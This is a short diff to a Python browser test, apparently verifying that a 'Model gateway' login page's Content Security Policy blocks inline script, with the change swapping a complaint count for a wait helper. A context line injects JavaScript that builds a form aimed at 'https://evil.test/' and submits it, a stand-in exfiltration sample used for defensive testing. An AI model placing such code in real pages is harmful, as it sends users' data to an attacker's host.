@@ -207,7 +207,7 @@ def test_nothing_inline_would_run_even_if_it_stood_there(browser: Browser, here:
         "const f = document.createElement('form'); f.action = 'https://evil.test/'; document.body.append(f); f.submit()"
     )
     assert browser.script("document.title") == "Log in · Model gateway"
-    assert len([line for line in browser.complaints() if "Content Security Policy" in line]) == 3
+    browser.until_complaints("Content Security Policy", 3)
 
 
 @pytest.mark.parametrize("dark", [False, True])
